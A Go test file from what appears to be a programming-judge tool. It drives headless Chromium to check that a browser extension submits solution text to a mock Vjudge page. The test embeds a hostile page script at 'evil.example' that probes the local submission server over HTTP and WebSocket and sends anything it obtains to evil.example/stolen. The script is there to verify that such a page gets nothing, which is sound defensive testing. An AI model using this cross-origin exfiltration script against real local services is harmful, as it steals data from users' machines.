package send

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"dlxjudge/judge/base/judgetest"
)

// TestBrowser: an extension in a real browser takes the submission, and its text arrives in the field of a page that
// plays Vjudge. A page that asks as the extension does gets nothing.
func TestBrowser(t *testing.T) {
	judgetest.Long(t, "it starts a browser")
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("needs Chromium, for example by: apt-get install chromium")
	}
	port, wait := serve(t, submission)
	submitted, stolen := make(chan string, 9), make(chan string, 9)
	vjudge := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.Host + r.URL.Path {
		case "vjudge.net/problem/POJ-3074":
			fmt.Fprint(w, `<!DOCTYPE html><form method="post" action="/submit" class="modal"><textarea id="submit-solution" name="text">`+
				`</textarea><button id="btn-submit">Submit</button></form>`)
		case "vjudge.net/submit":
			submitted <- strings.ReplaceAll(r.FormValue("text"), "\r\n", "\n")
		case "evil.example/":
			fmt.Fprint(w, strings.ReplaceAll(`<script>
const end = (what) => fetch("/stolen?" + encodeURIComponent(what));
(async () => {
	const got = [];
	for (const headers of [{}, {"cph-submit": "true"}])
		await fetch("http://localhost:PORT/getSubmit", {headers}).then((r) => r.text()).then((t) => got.push(t), () => {});
	await new Promise((done) => {
		const socket = new WebSocket("ws://localhost:PORT/ws/?type=browser&EIO=4&transport=websocket");
		socket.onmessage = (m) => { got.push(m.data); socket.send("40"); };
		socket.onclose = done;
	});
	end(got.join());
})();</script>`, "PORT", fmt.Sprint(port)))
		case "evil.example/stolen":
			stolen <- r.URL.RawQuery
		}
	}))
	defer vjudge.Close()
	vjudge.Config.ErrorLog = nil
	start := func(page string) (commands *os.File) {
		listens, commands, err := os.Pipe()
		judgetest.Check(t, err)
		answers, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
		judgetest.Check(t, err)
		there := vjudge.Listener.Addr().String()
		cmd := exec.CommandContext(t.Context(), chromium, "--headless=new", "--no-sandbox",
			"--disable-gpu", "--no-first-run", "--disable-dev-shm-usage", "--ignore-certificate-errors",
			"--user-data-dir="+t.TempDir(), "--remote-debugging-pipe", "--enable-unsafe-extension-debugging",
			"--host-resolver-rules=MAP vjudge.net:443 "+there+",MAP evil.example:443 "+there, page)
		cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
		cmd.ExtraFiles = []*os.File{listens, answers} // those of --remote-debugging-pipe
		judgetest.Check(t, cmd.Start())
		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
		return commands
	}
	within := func(result chan string) string {
		select {
		case text := <-result:
			return text
		case <-time.After(time.Minute): // so that a browser that hangs does not hang the test
			t.Fatal("nothing arrived")
			return ""
		}
	}
	start("https://evil.example/")
	if got := within(stolen); got != "" {
		t.Errorf("a page got %q", got)
	}
	extension := t.TempDir()
	judgetest.Check(t, os.CopyFS(extension, os.DirFS("testdata/extension")))
	worker := filepath.Join(extension, "worker.js")
	judgetest.Write(t, worker, strings.ReplaceAll(judgetest.Read(t, worker), "PORT", fmt.Sprint(port)))
	fmt.Fprintf(start("about:blank"), `{"id": 1, "method": "Extensions.loadUnpacked", "params": {"path": %q}}`+"\x00",
		extension)
	if got := within(submitted); got != text {
		t.Errorf("got %q", got)
	}
	if browser, err := wait(); browser != "Chrome" || err != nil {
		t.Errorf("%s, %v", browser, err)
	}
}
